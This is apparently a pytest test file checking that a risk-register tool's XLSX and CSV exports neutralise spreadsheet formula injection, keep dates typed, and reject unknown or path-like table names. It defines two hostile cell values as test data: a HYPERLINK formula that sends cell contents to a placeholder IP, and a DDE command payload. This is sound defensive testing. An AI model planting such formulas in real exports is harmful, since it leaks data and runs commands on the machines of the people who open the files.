"""Register tables exported for people who live in spreadsheets: XLSX next to CSV, lists as text a
person reads, dates as dates, and no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
from datetime import date, datetime, timezone

from click.testing import CliRunner
from openpyxl import load_workbook

from workbench.cli import main
from workbench.processes import process_tables
from workbench.records.export import export_xlsx
from workbench.register import CORE_TABLES

HOSTILE_TITLE = "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"x\")"
HOSTILE_CONTROL = "=cmd|' /C calc'!A0"


def invoke(*args):
    return CliRunner().invoke(main, [str(a) for a in args])


def add_hostile_risk(workspace) -> None:
    """Record one risk whose title and first control are formulas, beside the demo's risks."""
    workspace.register.record_evidence(
        {"run_id": "ra-20261130T101500Z-e1c5a7", "process": "risk-assessment", "system_id": "credit-scoring",
         "period": "2026-Q4", "effective_date": date(2026, 11, 30), "assessor": "amara", "status": "submitted",
         "recorded_at": datetime(2026, 11, 30, 10, 15, tzinfo=timezone.utc), "path": "x",
         "answers_sha256": "0" * 64, "workbench_version": "0", "error": None},
        {"risks": [{"risk_id": "R-hostile", "title": HOSTILE_TITLE, "risk_source": "C.3.1", "inherent_score": 12,
                    "inherent_band": "High", "residual_score": -1, "residual_band": "Low", "treatment": "mitigate",
                    "owner": "amara", "due_date": date(2027, 1, 1), "above_appetite": False,
                    "controls": [HOSTILE_CONTROL, "A.6.2.4"]}]})


def test_demo_risks_export_to_xlsx_and_csv_as_text_a_person_reads(copy_of_demo, tmp_path):
    add_hostile_risk(copy_of_demo)
    xlsx, csv_path = tmp_path / "risks.xlsx", tmp_path / "risks.csv"
    result = invoke("export", "risks", "--csv", csv_path, "--xlsx", xlsx, "-w", copy_of_demo.root)
    assert result.exit_code == 0, result.output
    rows = len(copy_of_demo.register.frame("risks"))
    assert result.output.splitlines() == [f"{rows} rows of risks written to {csv_path}",
                                          f"{rows} rows of risks written to {xlsx}"]

    book = load_workbook(xlsx)
    assert book.sheetnames == ["risks"]
    sheet = book["risks"]
    header = [c.value for c in sheet[1]]
    assert header == list(CORE_TABLES.get("risks", process_tables()["risks"]).__table__.columns.keys())
    assert all(c.font.bold for c in sheet[1]) and sheet.freeze_panes == "A2"
    cells = [dict(zip(header, row)) for row in sheet.iter_rows(min_row=2)]
    assert len(cells) == rows > 1
    hostile = next(r for r in cells if r["risk_id"].value == "R-hostile")
    assert hostile["title"].value == "'" + HOSTILE_TITLE
    assert hostile["controls"].value == f"'{HOSTILE_CONTROL}; A.6.2.4"
    assert hostile["residual_score"].value == -1 and hostile["above_appetite"].value is False
    assert hostile["due_date"].is_date and hostile["due_date"].value == datetime(2027, 1, 1)
    for row in cells:
        assert not any(isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t", "\r", "["))
                       for c in row.values())
        assert row["controls"].data_type == "s" and row["inherent_score"].data_type == "n"
    demo_controls = [r["controls"].value for r in cells if r["risk_id"].value != "R-hostile"]
    assert any("; " in v for v in demo_controls), demo_controls
    widths = [sheet.column_dimensions[c.column_letter].width for c in sheet[1]]
    assert all(len(h) < w <= 62 for h, w in zip(header, widths)), widths

    with open(csv_path, newline="", encoding="utf-8") as handle:
        texts = list(csv.DictReader(handle))
    for column in ("risk_id", "title", "controls"):  # the same text in both files, row for row
        assert [r[column] for r in texts] == [r[column].value for r in cells]


def test_every_demo_table_exports_to_xlsx(copy_of_demo, tmp_path):
    for table, model in {**CORE_TABLES, **process_tables()}.items():
        written = export_xlsx(copy_of_demo, table, tmp_path / f"{table}.xlsx")
        sheet = load_workbook(tmp_path / f"{table}.xlsx")[table[:31]]
        header, *rows = list(sheet.iter_rows(values_only=True))
        assert list(header) == list(model.__table__.columns.keys()), table
        assert written == len(rows) == len(copy_of_demo.register.frame(table)), table
        for row in rows:
            assert not any(isinstance(v, str) and v.startswith(("=", "+", "-", "@", "\t", "\r", "["))
                           for v in row), (table, row)
    evidence = load_workbook(tmp_path / "evidence.xlsx")["evidence"]
    header = [c.value for c in evidence[1]]
    first = dict(zip(header, evidence[2]))
    assert first["recorded_at"].is_date and first["effective_date"].is_date


def test_export_needs_a_file_and_refuses_unknown_tables(workspace, tmp_path):
    result = invoke("export", "risks", "-w", workspace.root)
    assert result.exit_code == 2 and "--csv FILE, --xlsx FILE or both" in result.output
    result = invoke("export", "../register", "--xlsx", tmp_path / "x.xlsx", "-w", workspace.root)
    assert result.exit_code == 2 and "table: unknown table; allowed: systems, items, evidence," in result.output
    assert not (tmp_path / "x.xlsx").exists()
